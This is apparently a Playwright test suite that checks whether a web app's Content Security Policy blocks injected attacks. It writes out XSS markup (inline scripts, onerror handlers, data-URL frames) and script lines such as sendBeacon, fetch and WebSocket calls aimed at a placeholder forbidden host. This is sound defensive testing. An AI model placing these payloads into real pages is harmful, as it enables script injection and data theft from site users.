// G5: the policy of the built pages and workers under attack. Everything a page may not do is tried in a page with the
// very headers of ours; every try is refused, and none reaches the server that nobody may ask.
import type { Page } from '@playwright/test'
import { expect, test } from './hostile-app'
import { payloads } from './hostile-payloads'
import { finished, openApp, openExample } from './steps'

/** Markup that comes with the page, as a hole in it would put it there, and the directive that refuses it. */
const markup: [string, string, RegExp][] = [
  ['inline script', '<script>canary(1)</script>', /^script-src/],
  ['inline module', '<script type=module>canary(2)</script>', /^script-src/],
  ['script of a guessed nonce', '<script nonce=guess>canary(3)</script>', /^script-src/],
  ['inline handler', '<img src="data:," onerror=canary(4)>', /^script-src-attr/],
  ['foreign script', '<script src=HIT.js></script>', /^script-src/],
  ['foreign picture', '<img src=HIT.png>', /^img-src/],
  ['foreign style sheet', '<link rel=stylesheet href=HIT.css>', /^style-src/],
  ['inline style element', '<style>@import "HIT-import.css"</style>', /^style-src-elem/],
  ['foreign background', '<p style="background:url(HIT-background.png)">a</p>', /^img-src/],
  ['foreign film', '<video src=HIT.mp4 autoplay></video>', /^media-src/],
  ['foreign sound', '<audio src=HIT.mp3 autoplay></audio>', /^media-src/],
  ['foreign frame', '<iframe src=HIT.html></iframe>', /^frame-src/],
  ['frame of data', '<iframe src="data:text/html,<script>parent.canary(5)</script>"></iframe>', /^frame-src/],
  ['object', '<object data=HIT.swf></object>', /^object-src/],
  ['embed', '<embed src=HIT.pdf>', /^object-src/],
  ['base', '<base href="http://HOST/">', /^base-uri/],
  ['form', '<form action=HIT method=post id=attack><input name=a value=secret></form>', /^form-action/],
  ['prefetch', '<link rel=prefetch href=HIT-prefetch>', /^default-src|^prefetch-src/],
  ['foreign track', '<video><track default kind=captions src=HIT.vtt></video>', /^media-src/],
]

/** What a script that somehow runs tries, and the directive that refuses it. */
const scripted: [string, string, RegExp][] = [
  ['eval', 'eval("canary(11)")', /^script-src/],
  ['new Function', 'new Function("canary(12)")()', /^script-src/],
  ['a timer of text', 'setTimeout("canary(13)")', /^script-src/],
  ['a javascript: address', 'location.href = "javascript:canary(14)"', /^script-src/],
  ['fetch', 'fetch("HIT-fetch").catch(() => {})', /^connect-src/],
  ['XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("GET", "HIT-xhr"); x.send()', /^connect-src/],
  ['beacon', 'navigator.sendBeacon("HIT-beacon", "secret")', /^connect-src/],
  ['web socket', 'new WebSocket("ws://HOST/socket")', /^connect-src/],
  ['event source', 'new EventSource("HIT-events")', /^connect-src/],
  ['worker of a blob', 'new Worker(URL.createObjectURL(new Blob(["1"])))', /^worker-src/],
  ['worker of data', 'new Worker("data:text/javascript,1")', /^worker-src/],
  ['import', 'import("HIT-import.js").catch(() => {})', /^script-src/],
  ['import of data', 'import("data:text/javascript,canary(15)").catch(() => {})', /^script-src/],
  [
    'a script element made by a script',
    'document.head.append(Object.assign(document.createElement("script"), { src: "HIT-made.js" }))',
    /^script-src/,
  ],
  ['font', 'new FontFace("x", "url(HIT.woff2)").load().catch(() => {})', /^font-src/],
  ['sending a form', 'document.querySelector("#attack").submit()', /^form-action/],
]

interface Violation {
  directive: string
  uri: string
}

/** Opens the start page with `attack` in it, under the headers of the true one. */
async function openAttacked(page: Page, attack: (nonce: string) => string) {
  await page.route('/', async (route) => {
    const response = await route.fetch()
    const nonce = /'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '')?.[1] ?? ''
    expect(nonce).not.toBe('')
    const body = (await response.text()).replace('</body>', `${attack(nonce)}</body>`)
    await route.fulfill({ response, body })
  })
  await page.goto('/')
}

async function violationsOf(page: Page, work: () => Promise<void>, wanted: RegExp): Promise<Violation[]> {
  const seen = () =>
    page.evaluate(() => (window as unknown as { violations: Violation[] }).violations).catch(() => [])
  await work()
  await expect
    .poll(async () => (await seen()).map(({ directive }) => directive).join(' '), { timeout: 5000 })
    .toMatch(new RegExp(wanted.source.replaceAll('^', '\\b')))
  return await seen()
}

test.beforeEach(async ({ context }) => {
  await context.addInitScript(() => {
    const violations: Violation[] = []
    Object.assign(window, { violations })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push({ directive: effectiveDirective, uri: blockedURI }),
    )
  })
})

test(`${markup.length} attacks by markup and ${scripted.length} by script are refused, and nothing leaves`, async ({
  page,
  stage,
  guarded,
  watched,
}) => {
  const filled = (text: string) =>
    text.replaceAll('HIT', `http://${stage.forbidden.host}/attack`).replaceAll('HOST', stage.forbidden.host)
  await page.route('**/attack*', (route) => route.fallback())
  const open = async (attack: (nonce: string) => string) => {
    await page.unrouteAll()
    await openAttacked(page, (nonce) => filled(attack(nonce)))
  }
  for (const [name, text, directive] of markup)
    await test.step(name, async () => {
      const form =
        name === 'form'
          ? (nonce: string) =>
              `${text}<script nonce="${nonce}">document.querySelector("#attack").submit()</script>`
          : () => text
      await violationsOf(page, () => open(form), directive)
    })
  for (const [name, code, directive] of scripted)
    await test.step(name, async () => {
      const target = '<form action=HIT method=post id=attack></form>'
      const attack = (nonce: string) => `${target}<script nonce="${nonce}">try { ${code} } catch {}</script>`
      await violationsOf(page, () => open(attack), directive)
    })
  expect(stage.forbidden.hits).toEqual([])
  expect(guarded.faults.filter((fault) => !fault.startsWith('request'))).toEqual([])
  // What was refused is on the console and in the list of requests, as it should be: counted above instead.
  watched.faults.length = 0
})

test('a hole in a view would not be enough: the whole corpus as HTML in our page runs nothing', async ({
  page,
  stage,
  guarded,
  watched,
}) => {
  // The policy has no say in where a page goes (meta refresh) and in connections opened ahead (preconnect).
  const all = payloads(stage.forbidden.host).filter(({ text }) => !/http-equiv=refresh|preconnect/.test(text))
  await page.goto('/login')
  await page.evaluate(
    (texts) => {
      for (const text of texts) {
        const div = document.createElement('div')
        document.body.append(div)
        div.innerHTML = text
      }
    },
    all.map(({ text }) => text),
  )
  await page.waitForTimeout(1500)
  expect(guarded.faults.filter((fault) => /ran|dialog|opened/.test(fault))).toEqual([])
  expect(stage.forbidden.hits).toEqual([])
  // The same watch sees what is there: it would have seen it in a view.
  const seen = await page.evaluate(
    () => (window as unknown as { alienElements: string[] }).alienElements.length,
  )
  expect(seen).toBeGreaterThan(250)
  watched.faults.length = 0
})

test('the corpus is live: in a page without a policy scripts run and requests leave', async ({
  page,
  stage,
  guarded,
  watched,
}) => {
  const all = payloads(stage.forbidden.host).filter(({ text }) => !/http-equiv=refresh/.test(text))
  const frames = all.map(
    ({ text }) => `<iframe srcdoc="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
  )
  stage.forbidden.page = `<!doctype html><body>${frames.join('\n')}`
  await page.goto(`http://${stage.forbidden.host}/page`)
  await page.waitForTimeout(3000)
  const ran = new Set(guarded.faults.filter((fault) => /script \d+ ran/.test(fault)))
  const left = new Set(stage.forbidden.hits.map((path) => /^\/(\d+)/.exec(path)?.[1]).filter(Boolean))
  const figures = `${ran.size} of 300 scripts run by themselves, ${left.size} forms ask for their address`
  test.info().annotations.push({ type: 'live in a page without a policy', description: figures })
  process.stdout.write(`${figures}\n`)
  expect(ran.size).toBeGreaterThan(120)
  expect(left.size).toBeGreaterThan(25)
  watched.faults.length = 0
})

test('every page, the missing one too, opens and lives without a violation', async ({ page, watched }) => {
  watched.allowed.push(/Failed to load resource.*404/)
  for (const address of ['/', '/evaluate', '/models', '/login', '/no/such/page']) {
    await page.goto(address)
    await page.waitForLoadState('networkidle')
    await page.keyboard.press('?')
    expect(await page.evaluate(() => (window as unknown as { violations: Violation[] }).violations)).toEqual(
      [],
    )
  }
})

test('workers: no eval, no foreign code, no foreign request', async ({ page, stage, watched }) => {
  await openApp(page)
  await openExample(page, 'receipt')
  for (const column of [0, 1]) await finished(page, column)
  const workers = page.workers()
  expect(workers.length).toBeGreaterThanOrEqual(3)
  for (const worker of workers) {
    const got = await worker.evaluate(async (host) => {
      const tried: Record<string, () => unknown> = {
        // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested.
        eval: () => globalThis.eval('1'),
        function: () => new Function('return 1')(),
        fetch: () => fetch(`http://${host}/worker-fetch`),
        socket: () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`ws://${host}/worker-socket`)
            socket.onopen = resolve
            socket.onerror = reject
          }),
        import: () => import(/* @vite-ignore */ `http://${host}/worker-import.js`),
      }
      const open: string[] = []
      for (const [name, attempt] of Object.entries(tried))
        try {
          await attempt()
          open.push(name)
        } catch {
          // Refused, as it should be.
        }
      return open
    }, stage.forbidden.host)
    expect([worker.url(), got]).toEqual([worker.url(), []])
  }
  expect(stage.forbidden.hits).toEqual([])
  watched.faults.length = 0
})
